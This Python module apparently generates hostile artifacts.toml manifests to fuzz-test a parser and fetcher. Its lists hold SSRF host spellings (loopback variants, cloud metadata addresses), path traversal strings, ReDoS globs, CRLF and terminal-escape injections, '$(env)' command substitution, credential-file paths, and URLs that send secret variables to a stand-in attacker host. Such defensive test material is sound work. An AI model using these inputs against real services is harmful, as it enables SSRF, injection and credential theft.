"""Manifests as somebody writes them who wants their reader's credentials, or network."""

import json
from random import Random

SPELLINGS = (
    *(
        "127.0.0.1",
        "localhost",
        "0x7f.1",
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "127.1",
    ),
    *("[::1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "0", "0.0.0.0", "[::]"),  # noqa: S104 - asked, not bound
    *("127.0.0.1.", "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal"),
    *(
        "10.0.0.1",
        "192.168.1.1",
        "100.64.0.1",
        "224.0.0.1",
        "[fe80::1]",
        "[64:ff9b::7f00:1]",
    ),
    *("rebind.example", "inside.example", "[::127.0.0.1]", "[2002:7f00:1::]", "ⓛocalhost"),
)
"""Ways to write a host that nobody outside of this machine or network should reach."""
PUBLIC = "evil.example"
"""A host that anybody may be sent to; it belongs to the writer of the manifest."""
_PATHS = (
    *(
        "../up",
        "/etc",
        ".git/hooks",
        ".artlock/x",
        "artifacts.lock",
        "a\\b",
        "C:x",
        "a/../b",
    ),
    *(".github/workflows", "data/\u202egnp", "x" * 300, "con", "data/./x", "~/.ssh"),
)
_GLOBS = (
    *(
        "**/" * 40 + "x",
        "*" * 200,
        "[" * 50,
        "[a-z" * 30 + "]" * 30,
        "(a+)+$",
        "**a**b**c**",
    ),
    *("?" * 300, "[!" + "a" * 500 + "]", "{a,b}" * 40, "**/*" * 60, "\x1b[2J*"),
)
_ESCAPES = (
    *(
        "\\u001b]0;owned\\u0007",
        "\\u001b[2J",
        "\\u202etxt.exe",
        "\\u0007",
        "\\r\\nSet-Cookie: a",
    ),
    *("\\u009b31m", "\\u2028", "\\u0000", "\\ud800"),
)
_FIXED = ("Host", "X-A\\u000d\\u000aB", "Accept", "If-Match", "Proxy-Authorization")
_SENT = (
    *("${TOKEN}", "Bearer ${TOKEN}", "${AWS_SECRET_ACCESS_KEY}", "${AWS_SESSION_TOKEN}"),
    "${DB_PASSWORD}",
)
_VARIABLES = (*("$TOKEN", "x ${HOME}", "${TOKEN:-x}", "${NOT_SET}", "$(env)", "`env`"),)
_PROXIES = ("proxy", "https-proxy", "HTTP_PROXY", "no-proxy", "netrc", "auth", "cookies")
_UNKNOWN = (
    *_PROXIES,
    *(
        "plugin",
        "cache-dir",
        "credential-process",
        "tracking-url",
        "hooks",
        "run",
        "verify",
    ),
    *(
        "insecure",
        "tls-verify",
        "include-file",
        "extends",
        "env-file",
        "allow-private-hosts",
    ),
)


class Hosts:
    """Where the writer of manifests listens.

    Args:
        plain: The port of their web server.
        tls: The port of their https server.
        inside: The port of a service of the reader's own network.
    """

    def __init__(self, *, plain: int, tls: int, inside: int) -> None:
        self.plain = plain
        self.tls = tls
        self.inside = inside

    def url(self, luck: Random) -> str:
        """Return a URL: mostly their own, else one that leads inside."""
        path = luck.choice(("/a.json", "/redirect", "/inside", "/loop", "/auth", "/busy"))
        match luck.randrange(6):
            case 0 | 1 | 2:
                return f"http://{PUBLIC}:{self.plain}{path}"
            case 3:
                return f"https://{PUBLIC}:{self.tls}{path}"
            case _:
                port = luck.choice((self.inside, self.plain, 80))
                return f"http://{luck.choice(SPELLINGS)}:{port}{path}"

    def endpoint(self, luck: Random) -> str:
        """Return the address of an S3 or GCS service."""
        return self.url(luck).rpartition("/")[0]


def manifest(hosts: Hosts, luck: Random) -> str:
    """Return the text of a hostile ``artifacts.toml``."""
    parts = [
        _artifact(f"a{number}", hosts, luck) for number in range(luck.choice((1, 1, 2)))
    ]
    if luck.random() < 0.05:  # noqa: PLR2004 - one in twenty
        parts.append(luck.choice((_deep, _many, _long, _tables))(luck))
    if luck.random() < 0.08:  # noqa: PLR2004 - few, as no such manifest is valid
        parts.append(
            f"[trackers]\nteam = {_quoted('mlflow+' + hosts.endpoint(luck))}\n"
            f'evil = "x://u:{luck.choice(_VARIABLES)}@h/"\n'
        )
    if luck.random() < 0.1:  # noqa: PLR2004 - one in ten
        parts.append(
            '[policy]\nallow = ["s3://", "gs://", "http://", "https://", "file://"]\n'
        )
    luck.shuffle(parts)
    return "".join(parts)


def _artifact(name: str, hosts: Hosts, luck: Random) -> str:
    uri, settings = luck.choice((_s3, _gs, _web, _web, _file))(hosts, luck)
    lines = [f"[artifacts.{name}]", f"uri = {_quoted(uri)}"]
    chosen = [line for line in settings if luck.random() < 0.5]  # noqa: PLR2004 - half of them
    odd = (
        lambda: f"path = {_quoted(luck.choice(_PATHS))}",
        lambda: f"include = [{_quoted(luck.choice(_GLOBS))}]",
        lambda: f"exclude = [{_quoted(luck.choice(_GLOBS))}]",
        lambda: f'rename = {{"../x" = {_quoted(luck.choice(_PATHS))}}}',
        lambda: f'description = "{luck.choice(_ESCAPES)}"',
        lambda: f'groups = ["{luck.choice(_ESCAPES)}"]',
        lambda: f'"{luck.choice(_ESCAPES)}" = 1',
        lambda: f"{luck.choice(_UNKNOWN)} = {_quoted(hosts.endpoint(luck))}",
        lambda: f"mirrors = [{_quoted(hosts.url(luck))}]",
        lambda: 'as-of = "2026-01-01T00:00:00Z"',
        lambda: "link = true",
        lambda: 'fallback = "link"',
    )
    if luck.random() < 0.2:  # noqa: PLR2004 - most manifests are to be valid
        chosen.append(luck.choice(odd)())
    return "\n".join([*lines, *dict.fromkeys(chosen)]) + "\n"


def _s3(hosts: Hosts, luck: Random) -> tuple[str, list[str]]:
    uri = luck.choice(
        (
            *("s3://bucket/data/", "s3://bucket/data/", "s3://bucket", "s3://private/k/")
            * 3,
            *(
                "s3://AKIA:secret@bucket/k",
                "s3://bucket/k?X-Amz-Signature=1",
                "s3://b/../x/",
            ),
            *(f"s3://{PUBLIC}/k/", "s3://bucket/$(env)/", "s3://bu\\u001bcket/k/"),
        )
    )
    return uri, [
        f"endpoint = {_quoted(hosts.endpoint(luck))}",
        f"profile = {_quoted(luck.choice(('prod-admin', 'default', '../x', '${TOKEN}')))}",
        'role-arn = "arn:aws:iam::1:role/admin"',
        "requester-pays = true",
        f"region = {_quoted(luck.choice(('eu-west-1', 'evil', 'x@evil.example/')))}",
        f"ca-bundle = {_quoted(luck.choice(('ca.pem', '/etc/passwd', '../../ca.pem')))}",
        "anonymous = false",
    ]


def _gs(hosts: Hosts, luck: Random) -> tuple[str, list[str]]:
    uri = luck.choice(
        (*("gs://bucket/data/", "gs://bucket/k", "gcs://bucket/") * 4, "gs://t@b/k/")
    )
    return uri, [
        f"endpoint = {_quoted(hosts.endpoint(luck))}",
        f"user-project = {_quoted(luck.choice(('victim-project', '${TOKEN}')))}",
        'ca-bundle = "ca.pem"',
        "anonymous = false",
    ]


def _web(hosts: Hosts, luck: Random) -> tuple[str, list[str]]:
    uri = hosts.url(luck)
    if luck.random() < 0.15:  # noqa: PLR2004 - mostly valid
        uri = luck.choice(
            (
                uri.replace("://", "://user:${TOKEN}@"),
                f"{uri}?X-Amz-Signature=0",
                f"{uri}?access_token=${{TOKEN}}",
                f"{uri}#${{TOKEN}}",
                f"{uri}?a=${{AWS_SECRET_ACCESS_KEY}}",
                uri.replace("/", "/\\u000d\\u000aHost: x/", 3),
                uri.replace("http", "HTTP", 1),
            )
        )
    names = (*("Authorization", "X-Team", "Cookie", "X-Data") * 4, *_FIXED)
    values = (*_SENT * 4, *_VARIABLES)
    headers = {luck.choice(names): luck.choice(values) for _ in range(luck.choice((1, 2)))}
    inline = ", ".join(f'"{name}" = {_quoted(value)}' for name, value in headers.items())
    return uri, [
        f"headers = {{{inline}}}",
        *['ca-bundle = "ca.pem"'] * uri.startswith("https:"),
        "anonymous = true",
        'checksum = "blake3"',
    ]


def _file(hosts: Hosts, luck: Random) -> tuple[str, list[str]]:
    del hosts
    return luck.choice(
        (
            *("file:///etc/passwd", "file://evil.example/share/x", "/proc/self/environ"),
            *("file:///../x/", "file:///dev/zero", "../../secret", "~/.aws/credentials"),
            *("file:///proc/self/fd/0", "link-out/", "fifo", "file:////evil.example/x"),
        )
    ), ['checksum = "blake3"']


def _deep(luck: Random) -> str:
    depth = luck.choice((50, 2000, 60_000))
    return f"[tool.deep]\nx = {'[' * depth}{']' * depth}\n"


def _many(luck: Random) -> str:
    count = luck.choice((100, 3000))
    return "".join(f'[artifacts.m{n}]\nuri = "doi:{n}"\n' for n in range(count))


def _long(luck: Random) -> str:
    return f"{'.'.join('a' * luck.choice((90, 200, 20_000)))} = 1\n"


def _tables(luck: Random) -> str:
    return "[[x]]\n" * luck.choice((10, 20_000))


def _quoted(text: str) -> str:
    # What is an escape of TOML already stays one.
    return json.dumps(text, ensure_ascii=False).replace("\\\\u", "\\u")
